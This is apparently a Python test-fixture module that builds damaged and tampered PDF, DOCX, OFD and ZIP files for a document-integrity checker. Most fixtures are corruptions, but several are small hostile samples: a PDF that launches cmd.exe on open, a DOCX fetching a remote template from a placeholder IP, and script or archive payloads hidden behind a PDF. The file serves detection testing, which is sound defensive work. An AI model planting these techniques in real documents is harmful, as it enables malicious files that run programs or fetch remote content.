"""Documents that are damaged or were tampered with: what cards and cables do, and what only a document can have."""

import io
import struct
import zipfile
from collections.abc import Callable, Iterator
from random import Random

import pikepdf

from schemas.integrity import Severity
from tests import media_documents as made
from tests.corpus.harm import HARMS, over
from tests.corpus.kinds import Broken

_CUT = {"media-truncated", "pdf-not-closed", "pdf-index-lost", "zip-no-directory", "zip-directory-damaged"}
_INSIDE = {"document-index-wrong", "document-content-damaged", "document-part-broken", "zip-overlaps"}
_AROUND = {
    "document-update-unfinished",
    "document-hidden-file",
    "document-pages-missing",
    "document-body-missing",
}
ANY = frozenset(_CUT | _INSIDE | _AROUND)

BASES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "pdf with photos": ("a.pdf", made.report),
    "pdf of words": ("a.pdf", lambda: made.report(8, pictures=False)),
    "pdf with packed objects": (
        "a.pdf",
        lambda: made.resaved(made.report(), object_stream_mode=pikepdf.ObjectStreamMode.generate),
    ),
    "pdf for the web": ("a.pdf", lambda: made.resaved(made.report(), linearize=True)),
    "pdf that is not packed": ("a.pdf", lambda: made.report(8, pictures=False, compression=0)),
    "pdf that is restricted": (
        "a.pdf",
        lambda: made.resaved(made.report(), encryption=pikepdf.Encryption(owner="a", user="")),
    ),
    "scan": ("a.pdf", made.scan),
    "scan in black and white": ("a.pdf", lambda: made.scan("1")),
    "docx": ("a.docx", made.letter),
    "xlsx": ("a.xlsx", lambda: made.sheet(2_000)),
    "ofd": ("a.ofd", made.ofd),
    "zip stored": ("a.zip", lambda: made.archive(_files(), method=zipfile.ZIP_STORED)),
    "zip deflated": ("a.zip", lambda: made.archive(_files())),
}


_NONE_OF = {
    "pdf with photos": {"eighth bit lost"},
    "pdf of words": {"eighth bit lost"},
    "pdf that is not packed": {"eighth bit lost", "sectors of zeros", "sectors of ones", "sectors of a log"},
}
"""ASCII is carried whole by seven bits, and a string in content that is stored as it is may hold any byte."""


def _files() -> list[tuple[str, bytes]]:
    return [(f"{number}.txt", f"{made.WORDS} {number}\n".encode() * 150) for number in range(6)]


def _flipped(whole: bytes, chance: Random) -> bytes:
    """Bits of a stream that is packed, away from its dictionary."""
    at = whole.index(b"stream\n", len(whole) // 3) + 40
    bit = 1 << chance.randrange(8)
    at += chance.randrange(200)
    return over(whole, at, bytes((whole[at] ^ bit,)))


def _member_bit(whole: bytes, chance: Random) -> bytes:
    with zipfile.ZipFile(io.BytesIO(whole)) as opened:
        one = chance.choice([entry for entry in opened.infolist() if entry.compress_size > 60])
    at = one.header_offset + 30 + len(one.filename.encode()) + chance.randrange(20, one.compress_size - 10)
    return over(whole, at, bytes((whole[at] ^ (1 << chance.randrange(8)),)))


def _crc(whole: bytes, chance: Random) -> bytes:
    """Another checksum in the directory and in the file's own header."""
    at = whole.rindex(b"PK\x01\x02")
    (offset,) = struct.unpack_from("<I", whole, at + 42)
    wrong = chance.randbytes(4)
    return over(over(whole, at + 16, wrong), offset + 14, wrong)


def _offset(whole: bytes, chance: Random) -> bytes:
    at = whole.rindex(b"PK\x01\x02")
    return over(whole, at + 42, struct.pack("<I", chance.randrange(1, len(whole) // 2)))


def _name_differs(whole: bytes, _: Random) -> bytes:
    """The file's own header has another name than the directory."""
    at = whole.rindex(b"PK\x01\x02")
    (offset,) = struct.unpack_from("<I", whole, at + 42)
    return over(whole, offset + 30, b"#")


def _same_place(whole: bytes, _: Random) -> bytes:
    """Every entry of the directory leads to the first file."""
    at, made_of = 0, whole
    while (at := made_of.find(b"PK\x01\x02", at)) >= 0:
        made_of = over(made_of, at + 42, bytes(4))
        at += 4
    return made_of


def _twice(_: bytes, chance: Random) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as opened:
        opened.writestr(zipfile.ZipInfo("a.txt", made.MOMENT), b"one" * 50)
        opened.writestr(zipfile.ZipInfo("b.txt", made.MOMENT), chance.randbytes(20))
        opened.writestr(zipfile.ZipInfo("c.txt", made.MOMENT), b"another" * 50)
    return kept.getvalue().replace(b"c.txt", b"a.txt")


def _no_end(whole: bytes, _: Random) -> bytes:
    return whole[: whole.rindex(b"PK\x05\x06")]


def _no_directory(whole: bytes, _: Random) -> bytes:
    return whole[: whole.index(b"PK\x01\x02")]


def _without(name: str) -> Callable[[bytes, Random], bytes]:
    def leave_out(whole: bytes, _: Random) -> bytes:
        return made.repacked(whole, {name: None})

    return leave_out


def _torn_part(name: str) -> Callable[[bytes, Random], bytes]:
    """A part that a program wrote half, in an archive that is whole."""

    def tear(whole: bytes, chance: Random) -> bytes:
        payload = dict(made.files_of(whole))[name]
        return made.repacked(whole, {name: payload[: int(len(payload) * chance.uniform(0.3, 0.9))]})

    return tear


def _wrong_offsets(whole: bytes, chance: Random) -> bytes:
    """Line ends that a mail program added: everything behind them has moved."""
    at = whole.index(b"endobj") + 6
    return whole[:at] + b"\r\n" * chance.randint(3, 9) + whole[at:]


def _no_start(whole: bytes, _: Random) -> bytes:
    return whole[: whole.rindex(b"startxref")]


def _ring(whole: bytes, _: Random) -> bytes:
    start = int(whole[whole.rindex(b"startxref") + 9 :].split()[0])
    return made.updated(whole, {80: b"(x)"}).replace(
        f"/Prev {start}".encode(),
        b"/Prev "
        + str(
            int(
                made.updated(whole, {80: b"(x)"})[
                    made.updated(whole, {80: b"(x)"}).rindex(b"startxref") + 9 :
                ].split()[0]
            )
        ).encode(),
    )


def _page_gone(_: bytes, __: Random) -> bytes:
    return made.pdf(made.bodies(more={2: b"<< /Type /Pages /Kids [5 0 R 77 0 R] /Count 2 >>"}))


def _no_pages(_: bytes, __: Random) -> bytes:
    return made.pdf(made.bodies(more={2: b"<< /Type /Pages /Kids [] /Count 0 >>"}))


def _half_update(whole: bytes, chance: Random) -> bytes:
    more = made.updated(whole, {6: made.stream(made.text_page("later"))})
    return more[: len(whole) + chance.randint(60, 150)]


def _changed_after(_: bytes, chance: Random) -> bytes:
    return made.updated(
        made.signed(made.pdf()), {6: made.stream(made.text_page(f"changed {chance.random()}"))}
    )


def _page_added(_: bytes, __: Random) -> bytes:
    more = {
        2: b"<< /Type /Pages /Kids [5 0 R 7 0 R 60 0 R] /Count 3 >>",
        60: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 61 0 R >>",
        61: made.stream(made.text_page("added")),
    }
    return made.updated(made.signed(made.pdf()), more)


def _page_taken(_: bytes, __: Random) -> bytes:
    return made.updated(made.signed(made.pdf()), {2: b"<< /Type /Pages /Kids [7 0 R] /Count 1 >>"})


def _hole_wider(_: bytes, __: Random) -> bytes:
    whole = made.signed(made.pdf())
    at = whole.rindex(b"/ByteRange [0 ") + 14
    return over(whole, at, f"{int(whole[at : at + 10]) - 300:010d}".encode())


def _launch(_: bytes, __: Random) -> bytes:
    return made.pdf(
        made.bodies(
            more={
                1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 20 0 R >>",
                20: b"<< /S /Launch /F (cmd.exe) >>",
            }
        )
    )


def _template(whole: bytes, chance: Random) -> bytes:
    where = f"http://192.0.2.{chance.randrange(255)}/a.dotm"
    told = made.relations({"attachedTemplate": where}, mode="External")
    return made.repacked(whole, {"word/_rels/settings.xml.rels": told})


def _ofd_changed(_: bytes, chance: Random) -> bytes:
    files = dict(made.ofd_files(is_signed=True))
    name = "Doc_0/Pages/Page_0/Content.xml"
    files[name] = files[name].replace("砂石".encode(), f"水泥{chance.randrange(9)}".encode(), 1)
    return made.archive(files.items())


def _polyglot(whole: bytes, _: Random) -> bytes:
    return whole + made.archive([("a.js", b"alert(1)" * 40)])


def _program_first(whole: bytes, chance: Random) -> bytes:
    return b"MZ" + chance.randbytes(500) + whole


def _script_behind(whole: bytes, _: Random) -> bytes:
    return whole + b"\n<script>location='http://192.0.2.1/'</script>\n"


Row = tuple[str, str, Callable[[bytes, Random], bytes], set[str]]

OWN: dict[str, Row] = {
    "pdf: a bit of a packed stream": ("pdf of words", "a.pdf", _flipped, {"document-content-damaged"}),
    "pdf: moved by line ends": (
        "pdf with photos",
        "a.pdf",
        _wrong_offsets,
        {"document-index-wrong", "pdf-index-lost"},
    ),
    "pdf: no start of the index": ("pdf with photos", "a.pdf", _no_start, _CUT),
    "pdf: index in a ring": ("pdf with photos", "a.pdf", _ring, {"pdf-index-lost"}),
    "pdf: a page that is not there": ("pdf with photos", "a.pdf", _page_gone, {"document-pages-missing"}),
    "pdf: no pages": ("pdf with photos", "a.pdf", _no_pages, {"document-empty"}),
    "pdf: half an update": ("pdf with photos", "a.pdf", _half_update, {"document-update-unfinished"}),
    "pdf: changed after a signature": (
        "pdf with photos",
        "a.pdf",
        _changed_after,
        {"document-pages-changed"},
    ),
    "pdf: a page added after a signature": (
        "pdf with photos",
        "a.pdf",
        _page_added,
        {"document-pages-changed"},
    ),
    "pdf: a page taken after a signature": (
        "pdf with photos",
        "a.pdf",
        _page_taken,
        {"document-pages-changed"},
    ),
    "pdf: a signature that leaves bytes out": (
        "pdf with photos",
        "a.pdf",
        _hole_wider,
        {"document-signature-partial"},
    ),
    "pdf: starts a program": ("pdf with photos", "a.pdf", _launch, {"document-reaches-out"}),
    "pdf: an archive behind it": ("pdf with photos", "a.pdf", _polyglot, {"document-hidden-file"}),
    "pdf: a script behind it": ("pdf with photos", "a.pdf", _script_behind, {"document-hidden-file"}),
    "zip: a bit of a file": ("zip deflated", "a.zip", _member_bit, {"document-content-damaged"}),
    "zip: a bit of a stored file": ("zip stored", "a.zip", _member_bit, {"document-content-damaged"}),
    "zip: another checksum": ("zip deflated", "a.zip", _crc, {"document-content-damaged"}),
    "zip: an entry that leads elsewhere": (
        "zip deflated",
        "a.zip",
        _offset,
        {"document-index-wrong", "zip-overlaps"},
    ),
    "zip: two names of one file": ("zip deflated", "a.zip", _name_differs, {"document-index-wrong"}),
    "zip: all entries lead to one file": (
        "zip deflated",
        "a.zip",
        _same_place,
        {"zip-overlaps", "document-index-wrong"},
    ),
    "zip: one name twice": ("zip deflated", "a.zip", _twice, {"zip-names-twice", "document-index-wrong"}),
    "zip: no end": ("zip deflated", "a.zip", _no_end, _CUT),
    "zip: no directory": ("zip deflated", "a.zip", _no_directory, _CUT),
    "docx: no body": ("docx", "a.docx", _without("word/document.xml"), {"document-body-missing"}),
    "docx: half a body": ("docx", "a.docx", _torn_part("word/document.xml"), {"document-part-broken"}),
    "docx: fetches a template": ("docx", "a.docx", _template, {"document-reaches-out"}),
    "docx: a bit of a part": ("docx", "a.docx", _member_bit, {"document-content-damaged"}),
    "ofd: no page": ("ofd", "a.ofd", _without("Doc_0/Pages/Page_1/Content.xml"), {"document-pages-missing"}),
    "ofd: no body": ("ofd", "a.ofd", _without("Doc_0/Document.xml"), {"document-body-missing"}),
    "ofd: half a page": (
        "ofd",
        "a.ofd",
        _torn_part("Doc_0/Pages/Page_0/Content.xml"),
        {"document-part-broken"},
    ),
    "ofd: changed after its seal": ("ofd", "a.ofd", _ofd_changed, {"document-signed-part-changed"}),
    "ofd: a bit of a part": ("ofd", "a.ofd", _member_bit, {"document-content-damaged"}),
}


def brokens() -> Iterator[Broken]:
    """Every class of damage to a document."""
    for base, (name, whole) in BASES.items():
        for harm, do in HARMS.items():
            if harm in _NONE_OF.get(base, ()):
                continue
            yield Broken(
                "document",
                f"{base}: {harm}",
                name,
                lambda chance, do=do, whole=whole: do(whole(), chance),
                ANY,  # type: ignore[misc]
            )
    for kind, (base, name, change, codes) in OWN.items():
        whole = BASES[base][1]
        yield Broken(
            "document",
            kind,
            name,
            lambda chance, change=change, whole=whole: change(whole(), chance),  # type: ignore[misc]
            frozenset(codes),
            Severity.WARN,
        )
